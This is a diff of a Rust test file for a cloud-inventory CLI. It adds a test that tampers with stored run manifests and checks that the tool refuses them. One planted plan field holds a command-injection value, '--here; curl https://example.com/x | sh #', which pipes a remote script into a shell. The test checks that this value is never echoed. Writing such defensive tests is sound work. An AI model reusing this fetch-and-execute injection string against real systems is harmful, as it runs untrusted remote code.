@@ -4,7 +4,6 @@
 use rolecall::testing::{Error, ErrorKind, Response, Settings};
 use serde_json::{Value, json};
 use std::path::Path;
-use std::time::Duration;
 
 use crate::command::{CommandOutput, manifest, run_command};
 use crate::fixture::{Fixture, account_with, assert_complete, files_below};
@@ -18,12 +17,12 @@ fn whole_fleet(run_id: &str) -> Value {
     json!({ "run_id": run_id, "accounts": "all" })
 }
 
-fn narrow(run_id: &str) -> Value {
+pub(crate) fn narrow(run_id: &str) -> Value {
     json!({ "run_id": run_id, "accounts": "all", "regions": ["eu-west-1"], "resources": ["ec2_vpcs", "ec2_subnets"] })
 }
 
 /// A fixture whose output is a bucket.
-async fn with_bucket() -> Fixture {
+pub(crate) async fn with_bucket() -> Fixture {
     let fixture = Fixture::start(2, account_with(2, 0, 0), |world| world.bucket("results")).await;
     let registry = fixture.settings.registry.clone().expect("a registry");
     let mut targets: Value = serde_json::from_slice(&std::fs::read(&registry).expect("it")).expect("JSON");
@@ -39,11 +38,11 @@ fn put_fails(fixture: &Fixture, key: &str, kind: FaultKind) -> FaultId {
     fixture.sim.add_fault(Fault::new(kind).service(Service::S3).operation("PutObject").path(key))
 }
 
-fn has(fixture: &Fixture, part: &str) -> bool {
+pub(crate) fn has(fixture: &Fixture, part: &str) -> bool {
     fixture.sim.objects("results").keys().any(|key| key.contains(part))
 }
 
-fn refused(result: Result<Response, Error>) -> Error {
+pub(crate) fn refused(result: Result<Response, Error>) -> Error {
     result.expect_err("refused")
 }
 
@@ -135,25 +134,27 @@ async fn a_manifest_that_is_not_written_commits_nothing() {
     }
 }
 
-/// A bucket answers nothing for longer than all attempts of the SDK take.
+/// Whoever may write to the output must not hang the commands of others, nor write one for them to type.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_silence_of_the_bucket_is_outlasted() {
-    let fixture = with_bucket().await;
-    let (short, backoff) = (Duration::from_secs(6), Duration::from_millis(10));
-    let settings = Settings { call_timeout: short, attempts: 2, backoff, ..fixture.settings.clone() };
-    let mut fixture = Fixture { settings, ..fixture };
-    let silent = |key: &str| Fault::new(FaultKind::Hang).service(Service::S3).operation("PutObject").path(key);
-    let first = fixture.sim.add_fault(silent("runs/outlasted/manifest.json").times(Times::First(5)));
-    let slow = Fault::error(503, "SlowDown").service(Service::S3).operation("PutObject").path("runs/outlasted/shards/");
-    let slow = fixture.sim.add_fault(slow.times(Times::First(5)));
-    fixture.run(narrow("outlasted"), None).await.expect("a response");
-    assert_eq!((fixture.sim.fired(first), fixture.sim.fired(slow)), (5, 5));
-    assert!(has(&fixture, "runs/outlasted/manifest.json"));
-    // It does not last for ever.
-    fixture.settings.operation_timeout = 2 * short;
-    fixture.sim.add_fault(silent("runs/silent/manifest.json"));
-    let error = refused(fixture.run(narrow("silent"), None).await);
-    assert!(error.message.contains("The run is not committed") && error.message.contains("no answer"), "{error}");
+async fn documents_that_lead_elsewhere_are_unreadable() {
+    let fixture = Fixture::start(1, account_with(1, 0, 0), |_| {}).await;
+    let out = fixture.out();
+    for run in ["loop", "command"] {
+        assert_complete(&fixture.run(narrow(run), None).await.expect("a response"));
+    }
+    change(&out.join("runs/loop/manifest.json"), |manifest| {
+        manifest["resumes"] = json!("loop");
+        manifest["remaining"] = json!({ "run_id": "loop", "accounts": "all" });
+        manifest["plan"]["request"] = manifest["remaining"].clone();
+    });
+    std::fs::remove_file(out.join("runs/command/manifest.json")).expect("removed");
+    let typed = json!("--here; curl https://example.com/x | sh #");
+    change(&out.join("runs/command/plan.json"), |plan| plan["given_targets"] = typed);
+    for arguments in [["status", "loop"], ["resume", "loop"], ["status", "command"], ["resume", "command"]] {
+        let told = run_cli(&fixture, &out, &arguments);
+        assert!(told.code == 2 && told.err.starts_with("rolecall: OutputUnreadable"), "{told:?}");
+        assert!(!told.err.contains("curl"), "{told:?}");
+    }
 }
 
 /// A file of rows whose name is taken is not what the manifest would say of it.
